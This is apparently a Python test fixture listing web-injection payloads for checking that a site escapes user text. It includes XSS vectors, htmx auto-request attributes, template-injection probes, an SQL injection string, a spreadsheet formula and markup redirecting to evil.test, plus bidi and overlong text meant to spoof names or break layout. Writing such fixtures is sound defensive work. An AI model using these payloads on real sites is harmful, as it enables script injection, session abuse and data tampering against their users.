"""Two hundred texts that try to run a script, to end the HTML element that contains them, or to break the layout of
the page.

Their scripts set `window.ran`.
"""

_RUN = "window.ran=1"
#: Beginnings of a text that might end the element or attribute that contains it, so that markup can follow.
_ENDS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></style></script>",
    "-->",
    "</option></select>",
    "</li></ul></main>",
)
#: Elements that run a script as soon as they are on a page, or when they are loaded, shown, focused or moved.
_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<video><source onerror={_RUN}></video>",
    f"<object data=javascript:{_RUN}></object>",
    f"<style onload={_RUN}>*{{display:none}}</style>",
    f"<x style=animation:a onanimationstart={_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "<base href=https://evil.test/><link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
)
_MARKUP = [end + element for end in _ENDS for element in _ELEMENTS]
_HTMX = [
    f"<a {name}>x</a>"
    for name in (
        "hx-get=/posts hx-trigger=load",
        "hx-post=/sign-out hx-trigger=load",
        "hx-delete=/posts hx-trigger=load",
        f"hx-on::load={_RUN}",
        f"hx-on:click={_RUN} autofocus",
        f"hx-vals=js:{{a:{_RUN}}} hx-get=/ hx-trigger=load",
        f"data-hx-on::load={_RUN}",
        f"hx-trigger='load[{_RUN}]' hx-get=/",
        f"href=javascript:{_RUN} autofocus",
        f"href='java\tscript:{_RUN}'",
        f"href=data:text/html,<script>{_RUN}</script>",
        "hx-boost=true href=//evil.test",
    )
]
_TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{# none #}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %d %n %(page)s",
    "{0.__class__}",
    "$(window.ran=1)",
    "`window.ran=1`",
    "[[7*7]]",
    "*{7*7}",
    "@{7*7}",
]
_ENCODED = [
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1",
    "\\u003cscript\\u003ewindow.ran=1",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-window.ran=1",
    "\uff1cscript\uff1ewindow.ran=1",
    "<scr\u00adipt>window.ran=1</scr\u00adipt>",
    "<\u200bscript>window.ran=1",
    "&amp;lt;b&amp;gt;",
    "]]><!--<![CDATA[",
    "'; DROP TABLE posts; --",
    '=HYPERLINK("https://evil.test")',
    "@SUM(1+1)",
    "-1+1",
    "\\",
    '\\\\"',
    "//evil.test",
]
_DIRECTIONS = [
    f"{mark}abc \u05d0\u05d1\u05d2 123"
    for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
]
_DIRECTIONS += [
    "\u202e" * 40 + "gpj.exe",
    "\u2067\u2067\u2067never closed",
    "\u0645\u0631\u062d\u0628\u0627 " * 60 + "x",
]
_LONG = [
    "W" * 2000,
    "\u4e00" * 1000,
    "a\u0301" * 900,
    "e" + "\u0301" * 500,
    "\U0001f469\u200d\U0001f4bb" * 200,
    "x" + "\u00a0" * 800 + "x",
    "https://example.com/" + "path" * 400,
    "-" * 1500,
    "\u200b" * 900 + "x",
    "line\n" * 400 + "end",
    "\ufdfd" * 150,
    "_" * 1200 + " end",
    "two\u2028\u2029 lines",
    "\u0e01\u0e34\u0e4d" * 200,
    "x" + "\u20dd" * 300,
    "a b " * 1000 + "x",
    "x" + "\t" * 300 + "x",
    "\u3164" * 300 + "x",
    "WWWW-" * 300,
    "\u00ad" * 400 + "x",
    "/" * 1000,
    "." * 1500,
]

PAYLOADS = (*_MARKUP, *_HTMX, *_TEMPLATES, *_ENCODED, *_DIRECTIONS, *_LONG)
